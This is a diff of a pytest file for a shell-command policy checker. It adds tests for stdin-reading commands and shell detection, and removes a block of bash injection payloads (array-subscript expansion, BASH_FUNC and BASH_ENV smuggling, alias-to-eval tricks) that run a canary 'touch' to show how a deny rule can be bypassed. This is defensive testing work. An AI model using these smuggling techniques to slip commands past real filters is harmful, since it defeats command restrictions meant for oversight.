+    ("apt-get install nginx", "apt-get"), ("yum remove x", "yum"), ("rm -i x", "rm"),
+    ("sudo -S ls", "sudo"), ("python3 -c 'input()'", "python3"), ("perl -ne 'print'", "perl"),
+    ("zsh", "zsh"), ("fish", "fish"), ("bash -c 'read x'", "read"), ("cat < \"$f\"", "cat"),
+    ("x=$(head -1)", "head"),
+]
+NOT_STDIN_READERS = [
+    "read -u 3 x", "while read l; do :; done < f", "head -n 1 f", "cat f", "dd if=x of=y",
+    "cat f | head", "echo hi", "apt-get install -y nginx", "apt-get -qy install x",
+    "sed -n p f", "sed -e 1p f", "grep x f", "grep -r x", "awk -f p f", "jq .a f", "jq -n 1",
+    "ssh -n host ls", "python3 x.py", "bash", "sh", "cat <<EOF\nx\nEOF", "cat <<< x",
+    "mysql -e 'select 1'", "psql -c 'select 1'", "sqlite3 db 'select 1'", "crontab -l",
+    "crontab f", "rm -rf x", "cp -a a b", "systemctl restart nginx", "xargs -a list rm",
+    "ls | xargs rm", "tar -xzf f.tgz", "git pull", "sort -o out in", "cut -d : -f 1 /etc/passwd",
+]
+
+
+@pytest.mark.parametrize(("line", "reader"), STDIN_READERS)
+def test_statements_that_may_read_the_scripts_own_stdin(line: str, reader: str) -> None:
+    found = stdin_reader(line)
+    assert found is not None and found.name == reader, parse_commands(line)
+    assert "may read the script after it" in (script_doubt(line) or "")
+
+
+@pytest.mark.parametrize("line", NOT_STDIN_READERS)
+def test_statements_that_do_not_read_the_scripts_own_stdin(line: str) -> None:
+    assert stdin_reader(line) is None, parse_commands(line)
+
+
+def test_script_doubt_names_constructs_of_another_shells_grammar() -> None:
+    assert script_doubt("ls *(e:touch /tmp/x:)", "zsh") == "zsh syntax that bash does not have"
+    assert script_doubt("ls *(e:touch /tmp/x:)", "bash") is None
+    assert script_doubt("ls", "zsh") is None
+    assert script_doubt("echo hi", "fish") == "code in fish's grammar, which the policy does not read"
+
+
+@pytest.mark.parametrize(("command", "shell"), [
+    ("bash", "bash"), ("bash5.2 -s", "bash"), ("sudo -u app zsh", "zsh"), ("su", "sh"),
+    ("sudo -s", "sh"), ("bash /dev/fd/3 3<&0", "bash"), ("BASH_ENV=/dev/stdin bash -c :", "bash"),
+    ("ssh host", "sh"), ("ls", None), ("bash x.sh", None),
+])
+def test_the_shell_that_reads_an_exec_commands_stdin(command: str, shell: str | None) -> None:
+    assert stdin_shell(command) == shell
 
 
 def test_the_gate_and_the_policy_share_one_list_of_shells() -> None:
@@ -1532,41 +1919,6 @@ HOOKS_JUDGED = [
 @pytest.mark.parametrize("line", HOOKS_JUDGED)
 def test_code_a_hook_stores_is_judged_as_commands(line: str) -> None:
     assert "touch" in names(line), parse_commands(line)
-
-
-# Lines that really run their command in bash (a canary file appears), which the policy must
-# not allow. Each is also in the tables above; here bash itself shows the attack is real.
-RUNS_IN_BASH = [
-    "x='a[$(touch {c})]'; echo $((x))",
-    "x='a[$(touch {c})]'; [[ $x -eq 1 ]]",
-    "x='a[$(touch {c})]'; a=(1); echo ${{a[x]}}",
-    "x='a[$(touch {c})]'; echo ${{!x}}",
-    "x='$(touch {c})'; echo ${{x@P}}",
-    "printf -v 'a[$(touch {c})]' %s 1",
-    "read 'a[$(touch {c})]' <<< x",
-    "mapfile -C 'touch {c} #' -c 1 <<< x",
-    "compgen -W '$(touch {c})'",
-    "BASH_CMDS[ls]=/usr/bin/touch; ls {c}",
-    "env 'BASH_FUNC_f%%=() {{ touch {c}; }}' bash -c f",
-    "BASH_ENV='$(touch {c})' bash -c :",
-    "cat <<EOF\n`touch {c}`\nEOF",
-    "coproc {{ touch {c}; }}; wait",
-    "x='\\044(touch {c})'; echo ${{x@P}}",
-    "shopt -s expand_aliases; alias x=eval\nx 'touch {c}'",
-    "bash /dev//stdin <<< 'touch {c}'",
-]
-
-
-@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
-@pytest.mark.parametrize("template", RUNS_IN_BASH)
-def test_lines_that_run_a_command_in_bash_are_not_allowed(tmp_path: Path,
-                                                           template: str) -> None:
-    canary = tmp_path / "ran"
-    line = template.format(c=canary)
-    subprocess.run(["bash", "-c", line], capture_output=True, timeout=10, cwd=tmp_path)
-    assert canary.exists(), "the attack did not run in bash: the test proves nothing"
-    policy = small_policy({"name": "no-touch", "action": "deny", "commands": ["touch"]})
-    assert evaluate(policy, line, role="r", target="t").action != "allow", parse_commands(line)
 
 
 # ---------------------------------------------------------------------------------------------
@@ -1677,24 +2029,6 @@ COMPLETENESS = [
 @pytest.mark.parametrize(("line", "complete"), COMPLETENESS)
 def test_is_complete(line: str, complete: bool) -> None:
     assert is_complete(line) is complete
-
-
-@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
-def test_is_complete_agrees_with_bash(tmp_path: Path) -> None:
-    script = tmp_path / "line.sh"
-    disagreements = []
-    for line, _ in COMPLETENESS:
-        if line.endswith("\\") and not line.endswith("\\\\"):
-            continue  # bash -n reads a file, where a final backslash is not a continuation
-        script.write_text(line)
-        checked = subprocess.run(["bash", "-n", str(script)], capture_output=True, text=True)
-        waits = any(
-            sign in checked.stderr
-            for sign in ("unexpected end of file", "unexpected EOF", "delimited by end-of-file")
-        )
-        if is_complete(line) == waits:
-            disagreements.append((line, checked.stderr))
-    assert disagreements == []
 
 
 # ---------------------------------------------------------------------------------------------
